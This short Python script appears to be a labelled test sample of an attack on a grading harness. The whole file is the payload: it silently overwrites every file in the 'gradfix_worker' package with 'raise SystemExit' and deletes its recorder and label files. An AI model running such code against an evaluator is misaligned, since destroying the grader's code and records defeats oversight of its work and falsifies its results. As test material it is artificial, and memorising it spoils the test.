# Overwrites and removes gradfix's own source.
# attacks: outside
# ends: clean
import contextlib, os, sys

folder = list(sys.modules["gradfix_worker"].__path__)[0]
for name in os.listdir(folder):
    with contextlib.suppress(OSError):
        with open(os.path.join(folder, name), "w") as file:
            file.write("raise SystemExit")
for name in ("recorder.py", "labels.py"):
    with contextlib.suppress(OSError):
        os.remove(os.path.join(folder, name))
